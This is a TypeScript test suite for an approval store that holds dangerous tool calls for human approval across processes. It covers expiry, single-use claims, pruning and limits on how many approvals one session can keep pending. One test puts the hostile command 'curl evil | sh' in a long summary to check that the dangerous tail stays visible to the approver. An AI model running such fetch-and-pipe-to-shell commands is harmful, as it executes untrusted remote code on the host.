import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { type ApprovalRequest, defineTool, invokeTool, type ToolCallOutcome } from '@lango/tools'
import { waitFor } from '@lango/vitest-config/wait-for'
import Database from 'better-sqlite3'
import { Kysely, SqliteDialect } from 'kysely'
import * as v from 'valibot'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { MAX_OUTCOME_CHARS } from '../src/approvals/store.js'
import {
  APPROVAL_MIGRATION_TABLE,
  ApprovalStore,
  Approvals,
  type ApprovalsOptions,
  type ApprovalView,
  MAX_APPROVAL_SUMMARY_CHARS,
  migrateApprovals,
} from '../src/approvals.js'
import { EventHub, type ServerEvent } from '../src/events.js'
import { silentLogger } from '../src/logger.js'
import { postgresSchemas } from './fixtures/postgres-schema.js'

// biome-ignore lint/suspicious/noExplicitAny: the store takes any host handle, as the server's is
type AnyDatabase = Kysely<any>

/** One database, and a second handle on it (what another process on the same database has). */
interface Opened {
  readonly db: AnyDatabase
  /** A new connection to the same database; closed with the database. */
  another(): AnyDatabase
  /** The SQLite file, to read its bytes (undefined on PostgreSQL). */
  readonly file?: string
  close(): Promise<void>
}

interface Backend {
  readonly name: string
  open(): Promise<Opened>
}

/** A real SQLite file in a temp dir, WAL and a busy timeout as the server opens it, migrated. */
const sqliteBackend: Backend = {
  name: 'SQLite',
  async open() {
    const dir = await mkdtemp(join(tmpdir(), 'lango-approvals-'))
    const file = join(dir, 'lango.db')
    const handles: AnyDatabase[] = []
    const connect = (): AnyDatabase => {
      const database = new Database(file)
      database.pragma('journal_mode = WAL')
      database.pragma('busy_timeout = 5000')
      const db = new Kysely({ dialect: new SqliteDialect({ database }) })
      handles.push(db)
      return db
    }
    const db = connect()
    await migrateApprovals(db)
    return {
      db,
      file,
      another: connect,
      async close() {
        for (const handle of handles) await handle.destroy()
        await rm(dir, { recursive: true, force: true })
      },
    }
  },
}

/** PostgreSQL at 127.0.0.1:5432 (test/fixtures/postgres-schema.ts): a fresh schema per database. */
async function postgresBackend(): Promise<Backend | undefined> {
  const { open } = await postgresSchemas<Record<string, never>>('approvals_test')
  if (open === undefined) return undefined
  return {
    name: 'PostgreSQL',
    async open() {
      const schema = await open()
      const db = schema.db as AnyDatabase
      await migrateApprovals(db)
      return { db, another: () => schema.another() as AnyDatabase, close: () => schema.close() }
    },
  }
}

const START = Date.UTC(2025, 0, 1)

/** A clock tests move by hand (for what depends on time but not on timers). */
function manualClock(start = START) {
  let now = start
  return {
    now: () => now,
    advance(ms: number) {
      now += ms
    },
  }
}

function request(summary: string, more: Partial<ApprovalRequest> = {}): ApprovalRequest {
  return { toolName: 'exec', summary, safety: 'dangerous', params: { command: summary }, ...more }
}

/** A dangerous `exec` tool that answers `{ ran: command }`, calling `onRun` first. */
function execTool(onRun: () => void = () => {}) {
  return defineTool({
    name: 'exec',
    title: 'Run',
    description: 'runs',
    safety: 'dangerous',
    parameters: v.object({ command: v.string() }),
    output: v.strictObject({ ran: v.string() }),
    handler: async ({ command }) => {
      onRun()
      return { ran: command }
    },
  })
}

/** Events published on a hub, in order. */
function recordEvents(hub: EventHub): ServerEvent[] {
  const seen: ServerEvent[] = []
  hub.subscribe((event) => seen.push(event))
  return seen
}

/** Resolves with the approval `onPending` reports, for a gate request started alongside. */
function pendingOf(
  approvals: Approvals,
  summary: string,
  signal: AbortSignal = new AbortController().signal,
) {
  let announce: (view: ApprovalView) => void = () => {}
  const announced = new Promise<ApprovalView>((resolve) => {
    announce = resolve
  })
  const answer = approvals.gate(announce).request(request(summary), { signal })
  return { announced, answer }
}

/** The store on one backend: reads, conditional writes, claims, pruning. */
function storeBehaviour(backend: () => Backend | undefined) {
  let opened: Opened
  let store: ApprovalStore
  beforeEach(async () => {
    const chosen = backend()
    if (chosen === undefined) throw new Error('backend unavailable')
    opened = await chosen.open()
    store = new ApprovalStore(opened.db)
  })
  afterEach(async () => {
    await opened.close()
  })

  const base = {
    tool: 'exec',
    safety: 'dangerous',
    sessionKey: 'http',
    origin: 'host:1:aaaa',
    callKey: null,
  }

  it('migrates once into its own migration table; rows read back with numbers for times', async () => {
    await migrateApprovals(opened.db)
    const tables = await opened.db.introspection.getTables({ withInternalKyselyTables: true })
    expect(tables.map((table) => table.name)).toEqual(
      expect.arrayContaining(['approvals', APPROVAL_MIGRATION_TABLE]),
    )
    await store.insert({
      ...base,
      id: 'a1',
      summary: 'Execute: echo {{secret:API}}',
      createdAt: START,
      expiresAt: START + 1_000,
    })
    const row = await store.get('a1')
    expect(row).toEqual({
      ...base,
      id: 'a1',
      summary: 'Execute: echo {{secret:API}}',
      status: 'pending',
      createdAt: START,
      expiresAt: START + 1_000,
      decidedAt: null,
      decidedBy: null,
      claimedAt: null,
      outcome: null,
    })
    expect(typeof row?.expiresAt).toBe('number')
    expect(await store.get('missing')).toBeUndefined()
  })

  it('lists pending first (lapsed ones as expired), newest first, and filters by status as of now', async () => {
    const now = START + 10_000
    await store.insert({ ...base, id: 'old-pending', summary: 'a', createdAt: START, expiresAt: now + 5_000 })
    await store.insert({ ...base, id: 'lapsed', summary: 'b', createdAt: START + 1, expiresAt: now - 1 })
    await store.insert({
      ...base,
      id: 'new-pending',
      summary: 'c',
      createdAt: START + 2,
      expiresAt: now + 5_000,
    })
    await store.insert({ ...base, id: 'denied', summary: 'd', createdAt: START + 3, expiresAt: now + 5_000 })
    expect(await store.decide('denied', { status: 'denied', now, decidedBy: 'cli' })).toBe(true)
    const ids = async (status?: Parameters<ApprovalStore['list']>[0]['status'], limit = 10) =>
      (await store.list({ now, limit, ...(status === undefined ? {} : { status }) })).map((row) => row.id)
    expect(await ids()).toEqual(['new-pending', 'old-pending', 'denied', 'lapsed'])
    expect(await ids('pending')).toEqual(['new-pending', 'old-pending'])
    expect(await ids('expired')).toEqual(['lapsed'])
    expect(await ids('denied')).toEqual(['denied'])
    expect(await ids('approved')).toEqual([])
    expect(await ids(undefined, 3)).toEqual(['new-pending', 'old-pending', 'denied'])
    expect(await store.countPending(now)).toBe(2)
    expect((await store.getMany(['lapsed', 'denied', 'nope'])).size).toBe(2)
  })

  it('decides once: the second answer and a late one lose; an expiry needs only pending', async () => {
    await store.insert({ ...base, id: 'x', summary: 'x', createdAt: START, expiresAt: START + 1_000 })
    expect(await store.decide('x', { status: 'approved', now: START + 10, decidedBy: 'one' })).toBe(true)
    expect(await store.decide('x', { status: 'denied', now: START + 11, decidedBy: 'two' })).toBe(false)
    expect(await store.get('x')).toMatchObject({
      status: 'approved',
      decidedAt: START + 10,
      decidedBy: 'one',
    })

    await store.insert({ ...base, id: 'late', summary: 'y', createdAt: START, expiresAt: START + 1_000 })
    expect(await store.decide('late', { status: 'approved', now: START + 1_000, decidedBy: 'one' })).toBe(
      false,
    )
    expect(await store.decide('late', { status: 'expired', now: START + 1_000, decidedBy: null })).toBe(true)
    expect(await store.get('late')).toMatchObject({ status: 'expired', decidedBy: null })
  })

  it('lets one claim use an answer; a lapsed pending one is claimed as expired at its expiry', async () => {
    const callKey = 'k'.repeat(64)
    await store.insert({
      ...base,
      callKey,
      id: 'c1',
      summary: 'c',
      createdAt: START,
      expiresAt: START + 1_000,
    })
    // Pending and not lapsed: nothing to claim.
    expect(await store.claim('c1', START + 10)).toBe(false)
    expect(await store.decide('c1', { status: 'approved', now: START + 20, decidedBy: 'cli' })).toBe(true)
    expect((await store.newestUnclaimed(callKey))?.id).toBe('c1')
    const claims = await Promise.all([store.claim('c1', START + 30), store.claim('c1', START + 31)])
    expect(claims.filter(Boolean)).toHaveLength(1)
    expect(await store.newestUnclaimed(callKey)).toBeUndefined()

    await store.insert({
      ...base,
      callKey,
      id: 'c2',
      summary: 'c',
      createdAt: START + 40,
      expiresAt: START + 50,
    })
    expect(await store.claim('c2', START + 60)).toBe(true)
    expect(await store.get('c2')).toMatchObject({
      status: 'expired',
      decidedAt: START + 50,
      claimedAt: START + 60,
    })
  })

  it('records outcomes, keeping a preview of one too long to keep whole', async () => {
    await store.insert({ ...base, id: 'o', summary: 'o', createdAt: START, expiresAt: START + 1_000 })
    const small: ToolCallOutcome = { ok: true, result: { exit_code: 0, stdout: 'hi\n' } }
    expect(await store.recordOutcome('o', small)).toBe(true)
    expect((await store.get('o'))?.outcome).toEqual(small)
    await store.recordOutcome('o', { ok: true, result: { stdout: 'y'.repeat(MAX_OUTCOME_CHARS * 2) } })
    const big = (await store.get('o'))?.outcome as {
      ok: true
      result: { truncated: boolean; preview: string }
    }
    expect(big.result.truncated).toBe(true)
    expect(big.result.preview.length).toBeLessThanOrEqual(4_000)
    await store.recordOutcome('o', {
      ok: false,
      error: { code: 'TOOL_FAILED', message: 'z'.repeat(MAX_OUTCOME_CHARS * 2), data: { a: 1 } },
    })
    const failed = (await store.get('o'))?.outcome
    expect(failed).toMatchObject({ ok: false, error: { code: 'TOOL_FAILED' } })
    expect(JSON.stringify(failed).length).toBeLessThan(MAX_OUTCOME_CHARS)
    expect(await store.recordOutcome('missing', small)).toBe(false)
  })

  it('prunes decided rows by age and beyond the count, records lapsed ones as expired, never deletes pending', async () => {
    for (let index = 0; index < 6; index++) {
      await store.insert({
        ...base,
        id: `d${index}`,
        summary: `d${index}`,
        createdAt: START + index,
        expiresAt: START + 100_000,
      })
      await store.decide(`d${index}`, { status: 'denied', now: START + index * 1_000, decidedBy: 'cli' })
    }
    await store.insert({ ...base, id: 'lapsed', summary: 'l', createdAt: START, expiresAt: START + 7_000 })
    await store.insert({ ...base, id: 'open', summary: 'p', createdAt: START, expiresAt: START + 100_000 })
    // d0 and d1 are older than the cut-off; of the rest, the newest 3 decided are kept.
    const deleted = await store.prune({ now: START + 8_000, olderThan: START + 1_500, keepDecided: 3 })
    expect(deleted).toBe(4)
    const left = (await store.list({ now: START + 8_000, limit: 50 })).map((row) => `${row.id}:${row.status}`)
    expect(left.sort()).toEqual(['d4:denied', 'd5:denied', 'lapsed:expired', 'open:pending'])
    expect(await store.get('lapsed')).toMatchObject({ status: 'expired', decidedAt: START + 7_000 })
  })

  it('cancels the pending waits of dead processes, leaving their retry approvals and others alone', async () => {
    await store.insert({ ...base, id: 'w', summary: 'w', createdAt: START, expiresAt: START + 1_000 })
    await store.insert({
      ...base,
      id: 'r',
      summary: 'r',
      callKey: 'k',
      createdAt: START,
      expiresAt: START + 1_000,
    })
    await store.insert({
      ...base,
      id: 'o',
      summary: 'o',
      origin: 'other',
      createdAt: START,
      expiresAt: START + 1_000,
    })
    expect(await store.cancelWaiting([base.origin], { now: START + 5, decidedBy: 'me' })).toBe(1)
    expect(await store.get('w')).toMatchObject({ status: 'cancelled', decidedBy: 'me' })
    expect(await store.get('r')).toMatchObject({ status: 'pending' })
    expect(await store.get('o')).toMatchObject({ status: 'pending' })
    expect(await store.cancelWaiting([], { now: START, decidedBy: 'me' })).toBe(0)
  })

  it('rejects with the signal’s reason when aborted before', async () => {
    const controller = new AbortController()
    const reason = new Error('stop')
    controller.abort(reason)
    await expect(store.list({ now: START, limit: 5 }, { signal: controller.signal })).rejects.toBe(reason)
    await expect(store.get('x', { signal: controller.signal })).rejects.toBe(reason)
  })
}

/** Two `Approvals` on one database, as two processes (`lango serve` and `lango mcp`) have them. */
function processBehaviour(backend: () => Backend | undefined) {
  let opened: Opened
  const made: Approvals[] = []
  beforeEach(async () => {
    const chosen = backend()
    if (chosen === undefined) throw new Error('backend unavailable')
    opened = await chosen.open()
  })
  afterEach(async () => {
    for (const approvals of made.splice(0)) await approvals.cancelAll()
    await opened.close()
  })

  /** An `Approvals` on its own connection, as a process of its own. */
  function inProcess(origin: string, options: Partial<ApprovalsOptions> = {}) {
    const events = new EventHub()
    const seen = recordEvents(events)
    const approvals = new Approvals({
      store: new ApprovalStore(made.length === 0 ? opened.db : opened.another()),
      timeoutMs: 5_000,
      pollIntervalMs: 25,
      origin,
      events,
      ...options,
    })
    made.push(approvals)
    return { approvals, seen }
  }

  it('a call waiting in one process runs once another process approves it; both publish the answer', async () => {
    const serve = inProcess('serve')
    const mcp = inProcess('mcp')
    let runs = 0
    const tool = execTool(() => {
      runs++
    })
    let announce: (view: ApprovalView) => void = () => {}
    const announced = new Promise<ApprovalView>((resolve) => {
      announce = resolve
    })
    const call = invokeTool(
      tool,
      { command: 'echo hi' },
      { sessionKey: 'http' },
      { policy: 'dangerous', gate: serve.approvals.gate(announce), approvalTimeoutMs: 6_000 },
    )
    const pending = await announced
    expect(pending).toMatchObject({ status: 'pending', tool: 'exec', origin: 'serve', session_key: 'http' })
    // The other process lists it and answers it.
    expect((await mcp.approvals.list({ status: 'pending' })).map((view) => view.id)).toEqual([pending.id])
    const answered = await mcp.approvals.answer(pending.id, true)
    expect(answered).toMatchObject({ id: pending.id, status: 'approved', decided_by: 'mcp' })
    expect(await call).toEqual({ ok: true, result: { ran: 'echo hi' } })
    expect(runs).toBe(1)
    // A second answer changes nothing.
    expect(await serve.approvals.answer(pending.id, false)).toMatchObject({ status: 'approved' })
    expect(
      serve.seen.map((event) => [event.type, event.data.status ?? null, event.data.decided_by ?? null]),
    ).toEqual([
      ['approval.pending', null, null],
      ['approval.answered', 'approved', 'mcp'],
    ])
    expect(mcp.seen.map((event) => [event.type, event.data.status])).toEqual([
      ['approval.answered', 'approved'],
    ])
  })

  it('wakes a waiter at once when the answer is given in its own process', async () => {
    // Neither a poll nor the expiry comes within the test's time: only the answer can wake it.
    const serve = inProcess('serve', { pollIntervalMs: 3_600_000, timeoutMs: 3_600_000 })
    const { announced, answer } = pendingOf(serve.approvals, 'Execute: local')
    const view = await announced
    await serve.approvals.answer(view.id, false, { decidedBy: 'dashboard:alice' })
    expect(await answer).toBe(false)
    expect(await serve.approvals.get(view.id)).toMatchObject({
      status: 'denied',
      decided_by: 'dashboard:alice',
    })
    expect(serve.seen.filter((event) => event.type === 'approval.answered')).toHaveLength(1)
  })

  it('denies a call another process refuses', async () => {
    const serve = inProcess('serve')
    const other = inProcess('other')
    const { announced, answer } = pendingOf(serve.approvals, 'Execute: refused')
    await other.approvals.answer((await announced).id, false)
    expect(await answer).toBe(false)
  })

  it('expires an unanswered approval: the wait ends denied, every process sees it expired, a late answer loses', async () => {
    const serve = inProcess('serve', { timeoutMs: 150 })
    const other = inProcess('other')
    const { announced, answer } = pendingOf(serve.approvals, 'Execute: too late')
    const view = await announced
    expect(await answer).toBe(false)
    const seenElsewhere = await other.approvals.get(view.id)
    expect(seenElsewhere).toMatchObject({ status: 'expired', decided_by: null })
    expect(seenElsewhere.answered_at).toBeGreaterThanOrEqual(view.created_at)
    expect(await other.approvals.answer(view.id, true)).toMatchObject({ status: 'expired' })
    expect(serve.seen.at(-1)).toMatchObject({ type: 'approval.answered', data: { status: 'expired' } })
  })

  it('cancels the approval when the waiting call is aborted', async () => {
    const serve = inProcess('serve')
    const controller = new AbortController()
    const { announced, answer } = pendingOf(serve.approvals, 'Execute: aborted', controller.signal)
    const view = await announced
    controller.abort(new Error('client went away'))
    expect(await answer).toBe(false)
    await waitFor(async () => (await serve.approvals.get(view.id)).status === 'cancelled')
    expect(await serve.approvals.get(view.id)).toMatchObject({ decided_by: 'serve' })
  })

  it('bounds pending approvals across processes: one beyond maxPending is refused at once, saying why', async () => {
    const first = inProcess('first')
    const second = inProcess('second', { maxPending: 2 })
    const one = pendingOf(first.approvals, 'Execute: one')
    const two = pendingOf(first.approvals, 'Execute: two')
    await Promise.all([one.announced, two.announced])
    const full = /^nobody was asked: 2 approvals are already waiting on this server, the most it keeps/
    await expect(
      second.approvals.gate().request(request('Execute: three'), { signal: new AbortController().signal }),
    ).rejects.toMatchObject({ code: 'TOOL_DENIED', message: expect.stringMatching(full) })
    await expect(second.approvals.open(request('Execute: four'), { callKey: 'k4' })).rejects.toMatchObject({
      code: 'TOOL_DENIED',
    })
    expect(await first.approvals.list({ status: 'pending' })).toHaveLength(2)
  })

  it('one session cannot fill every approval slot: a quarter each, and the others are still asked (outside probe)', async () => {
    const serve = inProcess('serve', { maxPending: 8 })
    const flood = await Promise.all(
      [1, 2].map((index) =>
        serve.approvals.open(request(`Execute: flood ${index}`, { sessionKey: 'mcp' }), {
          callKey: `flood-${index}`,
        }),
      ),
    )
    expect(flood.every((view) => view?.status === 'pending')).toBe(true)
    await expect(
      serve.approvals.open(request('Execute: flood 3', { sessionKey: 'mcp' }), { callKey: 'flood-3' }),
    ).rejects.toMatchObject({
      code: 'TOOL_DENIED',
      message: expect.stringMatching(/^nobody was asked: 2 approvals are already waiting from mcp/),
    })
    // The operator's own call through invokeTool is still asked, and a refused one says why, not "not approved".
    const operator = await serve.approvals.open(request('Execute: operator', { sessionKey: 'http' }), {
      callKey: 'op',
    })
    expect(operator?.status).toBe('pending')
    const exec = execTool()
    const refused = await invokeTool(
      exec,
      { command: 'echo one more' },
      { sessionKey: 'mcp' },
      { policy: 'dangerous', gate: serve.approvals.gate(), approvalTimeoutMs: 6_000 },
    )
    expect(refused).toMatchObject({
      ok: false,
      error: {
        code: 'TOOL_DENIED',
        message: expect.stringMatching(
          /^not run, nobody was asked: 2 approvals are already waiting from mcp sessions.*: Execute: ⟦echo one more⟧$/,
        ),
        data: { asked: false, max: 2 },
      },
    })
    await serve.approvals.cancelAll()
  })

  it('the quarter is per channel: an API client naming a new session per call cannot fill every slot (outside probe)', async () => {
    const serve = inProcess('serve', { maxPending: 8 })
    // `/api/chat` names its sessions `http:<name>`, the OpenAI endpoint `openai:<user>`: free to choose.
    for (const name of ['a', 'b'])
      expect(
        await serve.approvals.open(request(`Execute: ${name}`, { sessionKey: `http:${name}` }), {
          callKey: `http-${name}`,
        }),
      ).toMatchObject({ status: 'pending' })
    for (const sessionKey of ['http:c', 'http', 'http:under_score'])
      await expect(
        serve.approvals.open(request('Execute: c', { sessionKey }), { callKey: `more-${sessionKey}` }),
      ).rejects.toMatchObject({
        code: 'TOOL_DENIED',
        message: expect.stringMatching(
          /^nobody was asked: 2 approvals are already waiting from http sessions/,
        ),
      })
    // Other channels are still asked; a channel whose name starts like another's is its own.
    for (const sessionKey of ['telegram:5:6', 'openai:alice', 'https:x', 'mcp'])
      expect(
        await serve.approvals.open(request('Execute: other', { sessionKey }), {
          callKey: `other-${sessionKey}`,
        }),
      ).toMatchObject({ status: 'pending' })
    await serve.approvals.cancelAll()
  })

  it('at stop cancels the calls waiting there, leaves approvals answered by a retry pending, and denies later requests', async () => {
    const mcp = inProcess('mcp')
    const serve = inProcess('serve')
    const waiting = pendingOf(mcp.approvals, 'Execute: waiting')
    const waitingView = await waiting.announced
    const retry = await mcp.approvals.open(request('Execute: retry'), { callKey: 'k-retry' })
    await mcp.approvals.cancelAll()
    expect(await waiting.answer).toBe(false)
    expect(await serve.approvals.get(waitingView.id)).toMatchObject({
      status: 'cancelled',
      decided_by: 'mcp',
    })
    expect(await serve.approvals.get(retry?.id ?? '')).toMatchObject({ status: 'pending' })
    expect(
      await mcp.approvals.gate().request(request('later'), { signal: new AbortController().signal }),
    ).toBe(false)
    expect(await mcp.approvals.open(request('later'), { callKey: 'k-later' })).toBeUndefined()
  })

  it('denies and cancels a request that was being recorded when the process stopped', async () => {
    const serve = inProcess('serve')
    const other = inProcess('other')
    const answer = serve.approvals.gate().request(request('Execute: racing stop'), {
      signal: new AbortController().signal,
    })
    const stopped = serve.approvals.cancelAll()
    expect(await answer).toBe(false)
    await stopped
    expect((await other.approvals.list()).map((view) => view.status)).toEqual(['cancelled'])
  })

  it('cancels the waits of processes that died (cancelOrigins)', async () => {
    const dead = inProcess('dead-owner')
    const next = inProcess('next')
    const waiting = pendingOf(dead.approvals, 'Execute: orphan')
    const view = await waiting.announced
    expect(await next.approvals.cancelOrigins(['dead-owner'])).toBe(1)
    expect(await next.approvals.get(view.id)).toMatchObject({ status: 'cancelled', decided_by: 'next' })
    // The dead process's own poll (were it alive) ends the wait.
    expect(await waiting.answer).toBe(false)
  })

  it('an approval answered elsewhere is used once by the same call made again, in any process', async () => {
    const mcp = inProcess('mcp')
    const serve = inProcess('serve')
    const callKey = 'c'.repeat(64)
    expect(await mcp.approvals.claimAnswer(callKey)).toBeUndefined()
    const opened = await mcp.approvals.open(request('Execute: retry me'), { callKey })
    expect(opened).toMatchObject({ status: 'pending', origin: 'mcp' })
    expect(await mcp.approvals.claimAnswer(callKey)).toMatchObject({ id: opened?.id, status: 'pending' })
    await serve.approvals.answer(opened?.id ?? '', true)
    // The opening process publishes the answer once its poll sees it.
    await waitFor(() => mcp.seen.some((event) => event.type === 'approval.answered'))
    expect(mcp.seen.at(-1)).toMatchObject({
      data: { id: opened?.id, status: 'approved', decided_by: 'serve' },
    })
    const claims = await Promise.all([
      mcp.approvals.claimAnswer(callKey),
      serve.approvals.claimAnswer(callKey),
    ])
    expect(claims.filter((claim) => claim !== undefined)).toEqual([
      expect.objectContaining({ id: opened?.id, status: 'approved' }),
    ])
    expect(await mcp.approvals.claimAnswer(callKey)).toBeUndefined()
  })

  it('reports a refusal or an expiry once; an answer older than the timeout is not used', async () => {
    const clock = manualClock(Date.now())
    const mcp = inProcess('mcp', { timeoutMs: 1_000, now: clock.now })
    const serve = inProcess('serve', { timeoutMs: 1_000, now: clock.now })
    const denied = await mcp.approvals.open(request('Execute: no'), { callKey: 'k-no' })
    await serve.approvals.answer(denied?.id ?? '', false)
    expect(await mcp.approvals.claimAnswer('k-no')).toMatchObject({ status: 'denied' })
    expect(await mcp.approvals.claimAnswer('k-no')).toBeUndefined()

    const lapsed = await mcp.approvals.open(request('Execute: nobody'), { callKey: 'k-lapsed' })
    clock.advance(1_000)
    expect(await serve.approvals.claimAnswer('k-lapsed')).toMatchObject({ id: lapsed?.id, status: 'expired' })

    const stale = await mcp.approvals.open(request('Execute: stale'), { callKey: 'k-stale' })
    await serve.approvals.answer(stale?.id ?? '', true)
    clock.advance(1_001)
    expect(await mcp.approvals.claimAnswer('k-stale')).toBeUndefined()
  })

  it('keeps the table bounded: each new approval prunes decided ones beyond maxDecided', async () => {
    const clock = manualClock(Date.now())
    let next = 0
    const serve = inProcess('serve', { maxDecided: 3, now: clock.now, idGenerator: () => `id-${next++}` })
    for (let index = 0; index < 6; index++) {
      clock.advance(1)
      const view = await serve.approvals.open(request(`Execute: ${index}`), { callKey: `k${index}` })
      await serve.approvals.answer(view?.id ?? '', index % 2 === 0)
    }
    await serve.approvals.prune()
    const all = await serve.approvals.list()
    expect(all).toHaveLength(3)
    expect(all.map((view) => view.summary)).toEqual(['Execute: 5', 'Execute: 4', 'Execute: 3'])
  })
}

describe('approval store on SQLite (a real file)', () => {
  storeBehaviour(() => sqliteBackend)
})

describe('two processes’ approvals on one SQLite file', () => {
  processBehaviour(() => sqliteBackend)
})

// PostgreSQL runs the same tests when the `pg` driver is installed and the server answers.
const postgres = await postgresBackend()
describe.skipIf(postgres === undefined)('approval store on PostgreSQL (127.0.0.1:5432)', () => {
  storeBehaviour(() => postgres)
})
describe.skipIf(postgres === undefined)('two processes’ approvals on one PostgreSQL database', () => {
  processBehaviour(() => postgres)
})

describe('what the database holds', () => {
  it('keeps summaries as written (secret tokens unresolved) and never a call’s parameters', async () => {
    const opened = await sqliteBackend.open()
    try {
      const approvals = new Approvals({ store: new ApprovalStore(opened.db), timeoutMs: 5_000, origin: 'p' })
      const view = await approvals.open(
        {
          toolName: 'exec',
          summary: 'Execute: deploy --token {{secret:DEPLOY}}',
          safety: 'dangerous',
          params: { command: 'deploy --token {{secret:DEPLOY}}', env: { EXTRA: 'param-canary-5d1e' } },
          sessionKey: 'mcp',
        },
        { callKey: 'f'.repeat(64) },
      )
      expect(view?.summary).toBe('Execute: deploy --token {{secret:DEPLOY}}')
      await approvals.cancelAll()
      const directory = dirname(opened.file ?? '')
      const bytes = Buffer.concat(
        await Promise.all((await readdir(directory)).map((name) => readFile(join(directory, name)))),
      )
      expect(bytes.includes('{{secret:DEPLOY}}')).toBe(true)
      expect(bytes.includes('param-canary-5d1e')).toBe(false)
    } finally {
      await opened.close()
    }
  })

  it('keeps a long summary whole, and refuses (denies) one too long to show whole rather than cut it', async () => {
    const opened = await sqliteBackend.open()
    try {
      const logged: string[] = []
      const approvals = new Approvals({
        store: new ApprovalStore(opened.db),
        timeoutMs: 5_000,
        logger: { ...silentLogger, warn: (message: string) => void logged.push(message) },
      })
      const long = `Execute: echo ${'x'.repeat(100_000)}; curl evil | sh`
      const view = await approvals.open(request(long), { callKey: 'k' })
      expect(view?.summary).toBe(long)
      expect((await approvals.get(view?.id ?? '')).summary).toBe(long)
      const tooLong = `Execute: ${'x'.repeat(MAX_APPROVAL_SUMMARY_CHARS)}`
      const refused = {
        code: 'TOOL_DENIED',
        message: expect.stringMatching(
          /^nobody was asked: the request is \d+ characters, more than an approval shows whole/,
        ),
      }
      await expect(approvals.open(request(tooLong), { callKey: 'k2' })).rejects.toMatchObject(refused)
      await expect(
        approvals.gate().request(request(tooLong), { signal: new AbortController().signal }),
      ).rejects.toMatchObject(refused)
      expect(logged).toEqual([
        'approval refused: the request is too long to show whole',
        'approval refused: the request is too long to show whole',
      ])
      expect((await approvals.list()).map((approval) => approval.summary)).toEqual([long])
      await approvals.cancelAll()
    } finally {
      await opened.close()
    }
  })
})
